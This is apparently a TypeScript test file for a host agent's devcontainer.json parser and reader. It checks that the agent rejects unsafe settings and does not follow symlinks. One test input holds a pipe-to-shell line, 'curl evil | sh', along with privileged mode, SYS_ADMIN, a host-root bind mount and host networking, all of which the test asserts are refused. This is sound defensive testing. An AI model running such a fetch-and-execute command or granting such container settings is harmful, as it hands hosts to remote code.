/**
 * A repository's devcontainer.json as the host takes it (host-agent/src/devcontainer/): the image,
 * the environment, the user, the lifecycle commands as setup steps, JSONC, and everything it does
 * not honour said back; read from a workspace as data, with no link followed and nothing but a
 * plain file of bounded size read.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: devcontainer.json writes its variables as ${...}
import { execFileSync } from "node:child_process";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  DevcontainerError,
  parseDevcontainer,
} from "../../host-agent/src/devcontainer/parse-devcontainer.js";
import { readDevcontainer } from "../../host-agent/src/devcontainer/read-devcontainer.js";
import { MAX_DEVCONTAINER_BYTES } from "../../protocol/devcontainer.js";

const PATH = ".devcontainer/devcontainer.json";

function refusal(text: string): string {
  try {
    parseDevcontainer(PATH, text);
  } catch (err) {
    expect(err).toBeInstanceOf(DevcontainerError);
    return (err as Error).message;
  }
  throw new Error("not refused");
}

describe("parseDevcontainer", () => {
  it("takes image, containerEnv under remoteEnv, the user and the lifecycle commands in the specification's order; JSONC parses", () => {
    const text = `{
      // The Python image
      "name": "py",
      "image": "python:3.12",
      "containerEnv": { "A": "1", "B": "container" },
      "remoteEnv": { "B": "remote", },
      "remoteUser": "vscode",
      "postCreateCommand": "pip install -r requirements.txt",
      "onCreateCommand": ["make", "deps"],
      "updateContentCommand": { "one": "echo one", "two": ["echo", "two"] },
      /* trailing comma next */
    }`;
    expect(parseDevcontainer(PATH, text)).toEqual({
      path: PATH,
      image: "python:3.12",
      env: { A: "1", B: "remote" },
      user: "vscode",
      setup: [["make", "deps"], "echo one", ["echo", "two"], "pip install -r requirements.txt"],
      not_honoured: [],
    });
  });

  it("names every property it does not honour in one warning, with why, and grants none of them", () => {
    const got = parseDevcontainer(
      PATH,
      JSON.stringify({
        image: "debian:12",
        features: { "ghcr.io/devcontainers/features/node:1": {} },
        privileged: true,
        capAdd: ["SYS_ADMIN"],
        mounts: ["source=/,target=/host,type=bind"],
        runArgs: ["--network=host"],
        forwardPorts: [3000],
        initializeCommand: "curl evil | sh",
        customizations: { vscode: {} },
      }),
    );
    expect(got.not_honoured).toEqual([
      "features",
      "privileged",
      "capAdd",
      "mounts",
      "runArgs",
      "forwardPorts",
      "initializeCommand",
      "customizations",
    ]);
    expect(got.warning).toBe(
      `${PATH}: not honoured: features (features are not installed); privileged (containers are never privileged); ` +
        "capAdd (no capability is added); mounts (the host decides what is mounted); " +
        "runArgs (the host decides how a container runs); forwardPorts (a container has no ports); " +
        "initializeCommand (it runs on the host); customizations",
    );
    // initializeCommand is not a setup step: it would run on the host.
    expect(got.setup).toEqual([]);
  });

  it("keeps ${...} variables as written and says so; a root user is named as not honoured", () => {
    const got = parseDevcontainer(
      PATH,
      JSON.stringify({
        image: "alpine:3",
        containerEnv: { HOME_COPY: "${localEnv:HOME}" },
        remoteUser: "root",
      }),
    );
    expect(got.env).toEqual({ HOME_COPY: "${localEnv:HOME}" });
    expect(got.user).toBe("root");
    expect(got.warning).toContain("user root (sessions run as their own uids, never root)");
    expect(got.warning).toContain("the ${...} variables of HOME_COPY (kept as written)");
  });

  it("refuses what it cannot work without, saying why", () => {
    expect(refusal("{ not json")).toMatch(/is not JSON with comments: .* at line 1, column \d+$/);
    expect(refusal("[1, 2]")).toBe(`${PATH} does not hold an object`);
    expect(refusal('{"build": {"dockerfile": "Dockerfile"}}')).toBe(
      `${PATH} names no image (build: images are not built from a repository): give it an "image"`,
    );
    expect(refusal('{"image": "x", "containerEnv": {"A": 1}}')).toBe("containerEnv.A: a string");
    expect(refusal('{"image": "x", "containerEnv": {"1A": "v"}}')).toMatch(
      /^\.devcontainer\/devcontainer\.json: env\.1A: /,
    );
    expect(refusal('{"image": "x", "postCreateCommand": 42}')).toBe(
      "postCreateCommand: a command is a string, an array of strings or an object of commands",
    );
    expect(refusal('{"image": "x", "onCreateCommand": ["ok", 1]}')).toBe(
      "onCreateCommand: an array command holds only strings",
    );
    expect(refusal(`{"image": "x", "name": "${"a".repeat(MAX_DEVCONTAINER_BYTES)}"}`)).toMatch(
      /bytes, at most 262144$/,
    );
  });
});

describe("readDevcontainer", () => {
  let workspace: string;
  beforeEach(async () => {
    workspace = await mkdtemp(join(tmpdir(), "devcontainer-"));
  });
  afterEach(async () => {
    await rm(workspace, { recursive: true, force: true });
  });

  const refused = (promise: Promise<unknown>) =>
    promise.then(
      () => "read",
      (err: Error) => `${err.name}: ${err.message}`,
    );

  it("finds .devcontainer/devcontainer.json first, then .devcontainer.json; none is null", async () => {
    expect(await readDevcontainer(workspace)).toBeNull();
    await writeFile(join(workspace, ".devcontainer.json"), '{"image": "b"}');
    expect((await readDevcontainer(workspace))?.image).toBe("b");
    await mkdir(join(workspace, ".devcontainer"));
    await writeFile(join(workspace, PATH), '{"image": "a"}');
    expect(await readDevcontainer(workspace)).toMatchObject({ path: PATH, image: "a" });
  });

  it("follows no link: a linked file or a linked .devcontainer directory is refused, the target unread", async () => {
    const outside = await mkdtemp(join(tmpdir(), "devcontainer-outside-"));
    try {
      await writeFile(join(outside, "devcontainer.json"), '{"image": "from-outside"}');
      await symlink(join(outside, "devcontainer.json"), join(workspace, ".devcontainer.json"));
      expect(await refused(readDevcontainer(workspace))).toBe(
        "DevcontainerError: .devcontainer.json is a symbolic link, which is not followed",
      );
      await symlink(outside, join(workspace, ".devcontainer"));
      expect(await refused(readDevcontainer(workspace))).toBe(
        "DevcontainerError: .devcontainer is not a directory (a link is not followed)",
      );
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  it("reads nothing but a plain file of bounded size: a FIFO and a 5 MiB file are refused at once", async () => {
    await mkdir(join(workspace, ".devcontainer"));
    execFileSync("mkfifo", [join(workspace, PATH)]);
    expect(await refused(readDevcontainer(workspace))).toBe(`DevcontainerError: ${PATH} is not a plain file`);
    await rm(join(workspace, PATH));
    await writeFile(join(workspace, PATH), Buffer.alloc(5 * 1024 * 1024, 0x20));
    expect(await refused(readDevcontainer(workspace))).toBe(
      `DevcontainerError: ${PATH} is 5242880 bytes, at most ${MAX_DEVCONTAINER_BYTES}`,
    );
  });
});
